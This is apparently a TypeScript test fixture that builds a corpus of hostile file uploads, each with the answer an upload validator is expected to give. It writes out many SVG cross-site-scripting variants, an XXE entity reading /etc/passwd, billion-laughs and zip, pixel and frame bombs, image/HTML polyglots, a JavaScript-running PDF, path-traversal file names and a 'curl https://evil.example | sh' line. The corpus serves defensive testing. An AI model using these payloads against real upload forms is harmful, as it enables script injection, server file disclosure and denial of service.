import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { UPLOAD_LIMITS, formatMegabytes } from "../../../domain/limits/uploadLimits";
import { fileNotSupported, fileTooLarge } from "../../../domain/messages/formBuilderMessages";
import { pngDeclaring, testJpeg } from "./testing";
import { svgWithScript, tooManyFrames, tooManyPixels } from "./uploadInspection";

/** The address every payload calls when its script runs, so a browser journey can tell. */
export const BEACON_PATH = "/pwned-beacon";
/** The title every payload gives the document when its script runs. */
export const PWNED_TITLE = "pwned";

/** What a payload does when it runs: a beacon request, a title and a window flag. */
const PAYLOAD_JS = `fetch('${BEACON_PATH}?'+location.pathname,{mode:'no-cors'}).catch(function(){});document.title='${PWNED_TITLE}';window.pwned=1;try{top.pwned=1;top.document.title='${PWNED_TITLE}'}catch(e){}`;
const ENCODED_JS = [...`javascript:${PAYLOAD_JS}`].map((c) => `&#${c.charCodeAt(0)};`).join("");
const HEX_JS = [..."javascript"].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join("") + `:${PAYLOAD_JS}`;

/** How the server must answer one hostile upload. */
type HostileOutcome = { result: "refused"; status: 400 | 413; message: string } | { result: "image" | "file"; fileName: string };

/** One file of the hostile-upload corpus: what is sent, why it is hostile, and the expected answer. */
export interface HostileFile {
  name: string;
  why: string;
  bytes: Buffer;
  expected: HostileOutcome;
}

const SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" viewBox="0 0 40 40">';
const svg = (body: string, open = SVG_OPEN) => Buffer.from(`${open}${body}<rect width="40" height="40" fill="#c84"/></svg>`);
const html = (head = "") => Buffer.from(`${head}<html><body><script>${PAYLOAD_JS}</script><img src=x onerror="${PAYLOAD_JS}"></body></html>`);

const refusedSvg = (name: string, why: string, bytes: Buffer): HostileFile => ({
  name,
  why,
  bytes,
  expected: { result: "refused", status: 400, message: svgWithScript(name) },
});
const refusedType = (name: string, why: string, bytes: Buffer, images = false): HostileFile => ({
  name,
  why,
  bytes,
  expected: { result: "refused", status: 400, message: fileNotSupported(name, images ? "image " : "") },
});
const accepted = (result: "image" | "file", name: string, fileName: string, why: string, bytes: Buffer): HostileFile => ({
  name,
  why,
  bytes,
  expected: { result, fileName },
});

/** A JPEG with a comment segment holding an HTML page (a JPEG/HTML polyglot). */
async function jpegWithHtmlComment(): Promise<Buffer> {
  const jpeg = await testJpeg(64, 48);
  const comment = html();
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, comment, jpeg.subarray(2)]);
}

/** A PNG with a text chunk holding an HTML page, before the image data (a PNG/HTML polyglot). */
async function pngWithHtmlText(): Promise<Buffer> {
  const png = await sharp({ create: { width: 32, height: 32, channels: 3, background: "#486" } })
    .png()
    .toBuffer();
  const text = Buffer.concat([Buffer.from("Comment\0", "latin1"), html()]);
  const chunk = Buffer.alloc(12 + text.length);
  chunk.writeUInt32BE(text.length, 0);
  chunk.write("tEXt", 4, "latin1");
  text.copy(chunk, 8);
  chunk.writeUInt32BE(crc32(chunk.subarray(4, 8 + text.length)) >>> 0, 8 + text.length);
  return Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)]);
}

/** A JPEG whose frame header claims 65000 × 65000 pixels (a decompression bomb). */
async function jpegDeclaring(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(
    await sharp({ create: { width: 8, height: 8, channels: 3, background: "#888" } })
      .jpeg()
      .toBuffer(),
  );
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(height, frame + 5);
  jpeg.writeUInt16BE(width, frame + 7);
  return jpeg;
}

/** An animated GIF of `frames` frames of width × height pixels in a few dozen bytes each (a frame bomb). */
function gifFrames(width: number, height: number, frames: number): Buffer {
  const screen = Buffer.alloc(7);
  screen.writeUInt16LE(width, 0);
  screen.writeUInt16LE(height, 2);
  screen[4] = 0x80;
  const parts = [Buffer.from("GIF89a", "latin1"), screen, Buffer.from([0, 0, 0, 255, 255, 255])];
  for (let i = 0; i < frames; i += 1) {
    const descriptor = Buffer.alloc(10);
    descriptor[0] = 0x2c;
    descriptor.writeUInt16LE(width, 5);
    descriptor.writeUInt16LE(height, 7);
    parts.push(Buffer.from([0x21, 0xf9, 4, 0, 10, 0, 0, 0]), descriptor, Buffer.from([2, 2, 0x44, 1, 0]));
  }
  parts.push(Buffer.from([0x3b]));
  return Buffer.concat(parts);
}

/** A ZIP holding one entry that inflates to `size` bytes of zeros (a zip bomb). */
function zipBomb(size: number): Buffer {
  const data = deflateSync(Buffer.alloc(size));
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(data.length, 18);
  header.writeUInt32LE(size, 22);
  header.writeUInt16LE(8, 26);
  return Buffer.concat([header, Buffer.from("bomb.bin"), data]);
}

/**
 * At least 40 hostile uploads: SVGs with script in every disguise, HTML and programs named as
 * images, polyglots, decompression bombs and path tricks in names, each with the answer the
 * server must give (refused with its message, or accepted and served neutralised).
 */
export async function hostileCorpus(): Promise<HostileFile[]> {
  const smallPng = await sharp({ create: { width: 16, height: 16, channels: 3, background: "#246" } })
    .png()
    .toBuffer();
  const pdf = (body: string) => Buffer.from(`%PDF-1.4\n${body}\ntrailer<</Root 1 0 R>>\n%%EOF\n`);
  const longName = `${"a".repeat(5000)}.png`;
  return [
    refusedSvg("script.svg", "a script element", svg(`<script>${PAYLOAD_JS}</script>`)),
    refusedSvg("cdata-script.svg", "a script in CDATA", svg(`<script type="text/ecmascript"><![CDATA[${PAYLOAD_JS}]]></script>`)),
    refusedSvg(
      "svg-prefixed-script.svg",
      "a script element under the svg: prefix",
      svg(`<svg:script xmlns:svg="http://www.w3.org/2000/svg">${PAYLOAD_JS}</svg:script>`),
    ),
    refusedSvg("onload.svg", "an onload handler on the root", svg("", SVG_OPEN.replace("<svg ", `<svg onload="${PAYLOAD_JS}" `))),
    refusedSvg("upper-onload.svg", "an ONLOAD handler in capitals", svg(`<g ONLOAD="${PAYLOAD_JS}"/>`)),
    refusedSvg("onclick.svg", "a click handler on a shape", svg(`<rect width="9" height="9" onclick="${PAYLOAD_JS}"/>`)),
    refusedSvg("onbegin.svg", "a handler on an animation", svg(`<animate attributeName="x" dur="1s" onbegin="${PAYLOAD_JS}"/>`)),
    refusedSvg("link.svg", "a javascript: link", svg(`<a href="javascript:${PAYLOAD_JS}"><text y="20">go</text></a>`)),
    refusedSvg("xlink.svg", "an xlink:href javascript: link", svg(`<a xlink:href="javascript:${PAYLOAD_JS}"><text y="20">go</text></a>`)),
    refusedSvg("entity-link.svg", "a javascript: link written as decimal entities", svg(`<a href="${ENCODED_JS}"><text y="20">go</text></a>`)),
    refusedSvg("hex-entity-link.svg", "a javascript: link written as hex entities", svg(`<a href="${HEX_JS}"><text y="20">go</text></a>`)),
    refusedSvg("tab-link.svg", "a javascript: link split by an encoded tab", svg(`<a href="java&#9;script:${PAYLOAD_JS}"><text y="20">go</text></a>`)),
    refusedSvg("use-entity-link.svg", "an entity-encoded javascript: reference on use", svg(`<use href="${ENCODED_JS}"/>`)),
    refusedSvg(
      "smil-set.svg",
      "a SMIL set turning a link into javascript:",
      svg(`<a><set attributeName="href" to="javascript:${PAYLOAD_JS}"/><text y="20">go</text></a>`),
    ),
    refusedSvg("smil-set-use.svg", "a SMIL set of href on an allowed element", svg(`<use href="#r"><set attributeName="href" to="#r"/></use>`)),
    refusedSvg(
      "smil-animate.svg",
      "a SMIL animate of xlink:href with javascript: values",
      svg(`<use><animate attributeName="xlink:href" values="javascript:${PAYLOAD_JS}" dur="1s"/></use>`),
    ),
    refusedSvg("smil-handler.svg", "a SMIL set that adds an event handler", svg(`<rect><set attributeName="onmouseover" to="${PAYLOAD_JS}"/></rect>`)),
    refusedSvg(
      "foreign-object.svg",
      "HTML inside foreignObject",
      svg(`<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${PAYLOAD_JS}"/></body></foreignObject>`),
    ),
    refusedSvg(
      "xhtml-namespace.svg",
      "an element switched to the XHTML namespace",
      svg(`<g xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${PAYLOAD_JS}"/></g>`),
    ),
    refusedSvg(
      "prefix-rebound.svg",
      "an editor prefix rebound to XHTML to hide a script",
      svg(`<rdf:script xmlns:rdf="http://www.w3.org/1999/xhtml">${PAYLOAD_JS}</rdf:script>`),
    ),
    refusedSvg("iframe.svg", "an iframe element", svg(`<iframe src="javascript:${PAYLOAD_JS}"/>`)),
    refusedSvg(
      "handler-element.svg",
      "an SVG Tiny handler element",
      svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${PAYLOAD_JS}</handler>`),
    ),
    refusedSvg(
      "billion-laughs.svg",
      "entity expansion (billion laughs)",
      Buffer.from(
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>${SVG_OPEN}<text>&c;</text></svg>`,
      ),
    ),
    refusedSvg(
      "xxe.svg",
      "an external entity reading a server file",
      Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG_OPEN}<text>&x;</text></svg>`),
    ),
    refusedSvg(
      "entity-script.svg",
      "a script hidden in an internal entity",
      Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s "<script>${PAYLOAD_JS}</script>">]>${SVG_OPEN}&s;</svg>`),
    ),
    refusedSvg(
      "stylesheet-pi.svg",
      "an xml-stylesheet instruction loading another file",
      Buffer.from(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${SVG_OPEN}</svg>`),
    ),
    refusedSvg("external-use.svg", "use of an SVG on another site", svg('<use href="https://evil.example/sprite.svg#icon"/>')),
    refusedSvg(
      "data-use.svg",
      "use of a data: SVG",
      svg(
        `<use href="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" id="x"><script>${PAYLOAD_JS}</script></svg>`).toString("base64")}#x"/>`,
      ),
    ),
    refusedSvg(
      "image-data.svg",
      "an image element loading a data: HTML page",
      svg(`<image href="data:text/html,<script>${encodeURIComponent(PAYLOAD_JS)}</script>" width="9" height="9"/>`),
    ),
    refusedSvg("image-external.svg", "an image element loading another site", svg('<image href="https://evil.example/track.png" width="9" height="9"/>')),
    refusedSvg("fe-image.svg", "a filter image loading another file", svg('<filter id="f"><feImage href="https://evil.example/x.svg"/></filter>')),
    refusedSvg("style-import.svg", "a style element importing another sheet", svg('<style>@import url("https://evil.example/x.css");</style>')),
    refusedSvg("style-url.svg", "a style element loading another site", svg('<style>rect { fill: url("https://evil.example/track.png") }</style>')),
    refusedSvg("style-attribute.svg", "a style attribute with a javascript: url", svg(`<rect style="fill: url(javascript:${PAYLOAD_JS})"/>`)),
    refusedSvg("fill-url.svg", "a fill pointing at another file", svg('<rect width="9" height="9" fill="url(https://evil.example/p.svg#g)"/>')),
    refusedSvg(
      "utf7.svg",
      "a UTF-7 encoding declaration",
      Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${SVG_OPEN}+ADw-script+AD4-${PAYLOAD_JS}+ADw-/script+AD4-</svg>`),
    ),
    refusedSvg(
      "html-root.svg",
      "an XHTML page carrying an svg",
      Buffer.from(
        `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><svg xmlns="http://www.w3.org/2000/svg"/><script>${PAYLOAD_JS}</script></body></html>`,
      ),
    ),
    refusedType(
      "utf16.svg",
      "a UTF-16 SVG with a script (not read as SVG)",
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${PAYLOAD_JS}</script></svg>`, "utf16le")]),
    ),
    refusedType("photo.jpg", "an HTML page named as a JPEG", html()),
    refusedType("photo.png", "an HTML page with a doctype named as a PNG", html("<!DOCTYPE html>")),
    refusedType("logo.gif", "an HTML page with a byte-order mark named as a GIF", html("\uFEFF")),
    refusedType(
      "picture.webp",
      "an XHTML page named as WebP",
      Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${PAYLOAD_JS}</script></html>`),
    ),
    refusedType("script.jpg", "JavaScript named as a JPEG", Buffer.from(PAYLOAD_JS)),
    refusedType("setup.pdf", "a Windows program named as a PDF", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200, 1)])),
    refusedType("clip.mp4", "a Linux program named as a video", Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200, 7)])),
    refusedType("gif-js.gif", "a GIF header followed by JavaScript (a GIF/JS polyglot that is no image)", Buffer.from(`GIF89a=1;${PAYLOAD_JS};`), true),
    {
      name: "jpeg-html.jpg",
      why: "a JPEG marker followed by an HTML page (no image inside)",
      bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), html(), Buffer.from([0xff, 0xd9])]),
      expected: { result: "refused", status: 400, message: fileNotSupported("jpeg-html.jpg", "image ") },
    },
    accepted(
      "image",
      "comment-polyglot.jpg",
      "comment-polyglot.jpg",
      "a real JPEG carrying an HTML page in a comment (served re-encoded)",
      await jpegWithHtmlComment(),
    ),
    accepted(
      "image",
      "text-polyglot.png",
      "text-polyglot.png",
      "a real PNG carrying an HTML page in a text chunk (served re-encoded)",
      await pngWithHtmlText(),
    ),
    accepted(
      "file",
      "menu.pdf",
      "menu.pdf",
      "a PDF that runs JavaScript when opened",
      pdf(`1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1);${PAYLOAD_JS.replace(/[()]/g, "")})>>>>endobj`),
    ),
    accepted("file", "report.pdf", "report.pdf", "a PDF/HTML polyglot", Buffer.concat([Buffer.from("%PDF-1.4\n"), html()])),
    accepted("file", "archive.zip", "archive.zip", "a ZIP header followed by an HTML page", Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), html()])),
    accepted(
      "file",
      "movie.mp4",
      "movie.mp4",
      "an MP4 header followed by an HTML page",
      Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from("ftypisom"), html()]),
    ),
    accepted("file", "song.mp3", "song.mp3", "an ID3 header followed by an HTML page", Buffer.concat([Buffer.from("ID3"), html()])),
    accepted(
      "file",
      "sound.wav",
      "sound.wav",
      "a WAVE header followed by an HTML page",
      Buffer.concat([Buffer.from("RIFF\x00\x10\x00\x00WAVE", "latin1"), html()]),
    ),
    accepted(
      "file",
      "voice.m4a",
      "voice.m4a",
      "an M4A header followed by an HTML page",
      Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from("ftypM4A "), html()]),
    ),
    accepted("file", "take.ogg", "take.ogg", "an Ogg page header followed by an HTML page", Buffer.concat([Buffer.from("OggS\x00\x02", "latin1"), html()])),
    refusedType("song.ogg", "an HTML page named as Ogg audio", html()),
    refusedType("track.aac", "a shell script named as AAC audio", Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n")),
    accepted("file", "bomb.zip", "bomb.zip", "a zip bomb (50 MB of zeros in a few KB), stored and never unpacked", zipBomb(50_000_000)),
    {
      name: "bomb.png",
      why: "a PNG declaring 20000 × 20000 pixels",
      bytes: pngDeclaring(20000, 20000),
      expected: { result: "refused", status: 413, message: tooManyPixels("bomb.png", 20000, 20000) },
    },
    {
      name: "wide-bomb.png",
      why: "a PNG declaring 65535 × 65535 pixels",
      bytes: pngDeclaring(65535, 65535),
      expected: { result: "refused", status: 413, message: tooManyPixels("wide-bomb.png", 65535, 65535) },
    },
    {
      name: "bomb.jpg",
      why: "a JPEG declaring 65000 × 65000 pixels",
      bytes: await jpegDeclaring(65000, 65000),
      expected: { result: "refused", status: 413, message: tooManyPixels("bomb.jpg", 65000, 65000) },
    },
    {
      name: "frames.gif",
      why: "a GIF of 8 frames of 3000 × 3000 pixels in 200 bytes",
      bytes: gifFrames(3000, 3000, 8),
      expected: { result: "refused", status: 413, message: tooManyFrames("frames.gif", 3000, 3000, 8) },
    },
    {
      name: "huge.svg",
      why: "an SVG above the SVG size cap",
      bytes: svg(`<desc>${"x".repeat(UPLOAD_LIMITS.maxSvgBytes)}</desc>`),
      expected: { result: "refused", status: 413, message: fileTooLarge("huge.svg", formatMegabytes(UPLOAD_LIMITS.maxSvgBytes)) },
    },
    accepted("image", "../../../etc/passwd.png", "passwd.png", "a name climbing out of the folder", smallPng),
    accepted("image", "..\\..\\windows\\win.ini.png", "win-ini.png", "a name climbing out with backslashes", smallPng),
    accepted("image", "photo\u0000.php.png", "photo-php.png", "a NUL byte in the name", smallPng),
    accepted("file", "invoice\u202Efdp.exe", "invoicefdp.pdf", "a right-to-left override making .exe read as .pdf", pdf("")),
    accepted("image", "CON.png", "con-file.png", "a Windows device name", smallPng),
    accepted("image", "lpt1", "lpt1-file.png", "a Windows device name without an extension", smallPng),
    accepted("image", longName, `${"a".repeat(UPLOAD_LIMITS.maxFileNameLength)}.png`, "a 5000-character name", smallPng),
    accepted(
      "image",
      "%2e%2e%2fsecret.svg",
      "2e-2e-2fsecret.svg",
      "an encoded path in the name of a safe SVG",
      svg('<circle cx="20" cy="20" r="9" fill="url(#g)"/><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>'),
    ),
  ];
}
